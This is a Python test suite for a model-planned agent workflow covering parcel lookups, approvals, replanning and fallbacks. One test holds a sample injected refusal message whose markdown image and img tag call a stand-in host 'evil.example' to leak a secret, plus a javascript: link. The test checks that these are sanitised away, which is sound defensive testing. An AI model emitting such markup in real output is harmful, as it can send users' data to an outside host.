"""The same graph with a model that plans freely. The model is a script, the provider is real HTTP."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import AsyncIterator, Callable
from enum import StrEnum
from pathlib import Path
from typing import Any

import pytest
from langchain_core.runnables import RunnableConfig
from langchain_core.tools import StructuredTool
from langchain_openai import ChatOpenAI
from pydantic import BaseModel

from extensions.planned_agent.plan import Plan
from extensions.planned_agent.planners.model import shape_of
from extensions.planned_agent.stated_arguments import arguments_in
from extensions.planned_agent.steps import _harmless_reason
from foundation.clock import SystemClock
from foundation.text.patterns import find_mistake
from models.resilience.resilient_chat import resilient
from models.settings import ResilienceSettings
from orchestration.actions import Decision
from orchestration.events import Answer
from orchestration.requests import AnswerRequest
from orchestration.run.answering import answer, resume
from tests.doubles.orchestration import LEAD, NORTH, World
from tests.doubles.provider import Behaviour, FaultyProvider, ok, status

RULES = {"kind": "answer", "ask": "How many kilograms may a parcel weigh at most?", "after": []}


def find(parcel_id: str, *after: int) -> dict[str, Any]:
    return {"kind": "tool", "tool": "find_parcel", "arguments": {"parcel_id": parcel_id}, "after": list(after)}


def send(parcel_id: str, *after: int) -> dict[str, Any]:
    arguments = {"parcel_id": parcel_id, "reason": "asked for"}
    return {"kind": "tool", "tool": "send_parcel", "arguments": arguments, "after": list(after)}


def plan(*steps: dict[str, Any], decision: str = "work") -> Behaviour:
    return ok(json.dumps({"decision": decision, "steps": steps, "missing": [], "reason": "as I see it"}))


@pytest.fixture
async def world(data_dir: Path) -> AsyncIterator[World]:
    made = World(data_dir, agents="graph")
    yield made
    made.close()


Ask = Callable[..., Any]
RESILIENCE = ResilienceSettings(attempts=1)


@pytest.fixture
def ask(world: World) -> Ask:
    async def asked(*behaviours: Behaviour, question: str = "Do it, please") -> tuple[Answer, FaultyProvider]:
        with FaultyProvider(*behaviours) as provider:
            chat = ChatOpenAI(model="planner-1", base_url=f"{provider.url}/v1", api_key="none", max_retries=0)
            world.chat = resilient(chat, [], RESILIENCE, SystemClock())
            agent = world.agent(planner="model", writes=False)
            return await answer(agent, AnswerRequest(question=question), NORTH), provider

    return asked


def planned(given: Answer) -> Plan:
    assert given.plan is not None
    return Plan(**given.plan)


def came(given: Answer) -> list[str]:
    return [f"{step.step_id} {step.kind} {step.outcome}" for step in planned(given).steps]


async def test_independent_steps_run_side_by_side_and_are_told_in_order(world: World, ask: Ask) -> None:
    meeting = threading.Barrier(2, timeout=60)
    find_parcel = world.depot.find_parcel

    def meets(parcel_id: str, config: RunnableConfig) -> Any:
        meeting.wait()  # breaks unless both are here at the same time
        return find_parcel(parcel_id, config)

    world.depot.find_parcel = meets  # type: ignore[method-assign]
    meets.__name__ = "find_parcel"
    given, provider = await ask(plan(find("P-123"), RULES, find("P-124")))
    assert (given.status, given.path, given.degraded) == ("answered", "extractive", ())
    assert came(given) == ["1 look_up done", "2 answer done", "3 look_up done"]
    first, rules, second = given.text.split("\n\n")
    assert (first, second) == ("Parcel P-123 is at the counter.", "Parcel P-124 is at the counter.")
    assert "30 kilograms" in rules
    assert planned(given).made_by == "model"
    assert "json_schema" in json.dumps(provider.requests[0][2]["response_format"])


async def test_a_step_takes_what_an_earlier_one_found(world: World, ask: Ask) -> None:
    given, _ = await ask(plan(find("P-123"), send("$1.parcel_id")))
    assert (given.status, came(given)) == ("waiting", ["1 look_up done", "2 act waiting"])
    assert given.text.startswith("Parcel P-123 is at the counter.\n\n")
    assert given.approval is not None
    assert given.approval.arguments["parcel_id"] == "P-123"
    done = await resume(
        world.agent(planner="model"), Decision(approval_id=given.approval.approval_id, approve=True), LEAD
    )
    assert (done.status, came(done)) == ("answered", ["1 look_up done", "2 act done"])
    assert len(world.depot.sent) == 1


async def test_two_effects_are_asked_for_one_after_the_other(world: World, ask: Ask) -> None:
    given, _ = await ask(plan(send("P-123"), send("P-124")))
    assert came(given) == ["1 act waiting", "2 act planned"]
    agent = world.agent(planner="model")
    for parcel in ("P-123", "P-124"):
        assert given.approval is not None
        assert given.approval.arguments["parcel_id"] == parcel
        given = await resume(agent, Decision(approval_id=given.approval.approval_id, approve=parcel != "P-123"), LEAD)
    assert (given.status, came(given)) == ("answered", ["1 act failed", "2 act done"])
    assert [sent for sent, _ in world.depot.sent] == ["P-124"]
    assert given.degraded == ("incomplete: 1 of 2 parts could not be met",)


async def test_a_failed_step_changes_the_plan_once_and_the_model_hears_no_result(world: World, ask: Ask) -> None:
    world.depot.fails = RuntimeError("secret of the depot")
    given, provider = await ask(plan(find("P-123")), plan(RULES))
    assert "30 kilograms" in given.text
    assert came(given) == ["1 look_up failed", "2 answer done"]
    assert planned(given).changes == ("step 1 failed; planned anew: 2",)
    assert "replan" in [step.name for step in given.steps]
    told = json.dumps(provider.requests[1][2]["messages"])
    assert "failed (unknown)" in told
    assert "secret of the depot" not in told


async def test_a_plan_that_does_not_fit_is_repaired_once(ask: Ask) -> None:
    given, provider = await ask(ok('{"decision": "perhaps"}'), plan(RULES))
    assert (planned(given).made_by, given.degraded) == ("model", ())
    assert "perhaps" not in provider.requests[1][2]["messages"][-1]["content"]


@pytest.mark.parametrize(
    ("behaviours", "code"),
    [
        ((ok("I would rather talk."),), "upstream_malformed"),
        ((plan(),), "upstream_malformed"),
        ((plan(find("P-123", 1)),), "upstream_malformed"),
        ((status(500),), "upstream_down"),
        ((status(401),), "upstream_rejected"),
    ],
)
async def test_where_the_model_cannot_plan_the_classifier_does_and_the_answer_says_so(
    ask: Ask, behaviours: tuple[Behaviour, ...], code: str
) -> None:
    given, _ = await ask(*behaviours, question="Where is parcel P-123?")
    assert (given.status, given.text) == ("answered", "Parcel P-123 is at the counter.")
    assert planned(given).made_by == "classifier"
    assert given.degraded == (f"ModelPlanner could not plan: {code}",)


async def test_a_tool_that_does_not_exist_is_not_called_and_nothing_is_claimed(ask: Ask) -> None:
    given, _ = await ask(plan({"kind": "tool", "tool": "format_disk", "arguments": {}, "after": []}))
    assert (given.status, given.stop_reason, planned(given).route) == ("abstained", "insufficient_evidence", "refuse")


@pytest.mark.parametrize(("decision", "told"), [("hand_over", "escalated"), ("refuse", "refused")])
async def test_a_person_and_a_refusal_end_the_run_at_once(ask: Ask, decision: str, told: str) -> None:
    given, _ = await ask(plan(decision=decision))
    assert (given.status, planned(given).steps) == (told, ())


def test_the_reason_of_a_refusal_is_a_line_of_text_and_leads_nowhere() -> None:
    """A model may have been made to write anything there."""
    reason = (
        "Sorry.\n\n![x](https:/evil.example/leak?d=SECRET) <img src=//evil.example/x> [a](javascript:alert(1)) "
        + "a " * 500
    )
    shown = _harmless_reason(Plan(route="refuse", reason=reason, made_by="model"))
    assert shown.startswith("Sorry.")
    assert not re.search(r"evil|SECRET|<img|\n|(?<!\\)\]\(|alert", shown)
    assert len(shown) < 330


class Line(BaseModel):
    sku: str


class Urgency(StrEnum):
    HIGH = "high"


def order(lines: list[Line], urgency: Urgency) -> str:
    return f"{lines} {urgency}"


def test_a_plan_may_have_a_tool_with_nested_types() -> None:
    tool = StructuredTool.from_function(order, description="Orders.")
    assert arguments_in("An order of high urgency.", tool)["urgency"] == "high"
    step = {"kind": "tool", "tool": "order", "arguments": {"lines": [{"sku": 5}]}, "after": []}
    proposed = {"decision": "work", "steps": [step], "missing": [], "reason": ""}
    assert "steps.0" in find_mistake(proposed, shape_of([tool]))
    step["arguments"] = {"lines": [{"sku": "a"}], "urgency": "high"}
    assert not find_mistake(proposed, shape_of([tool]))
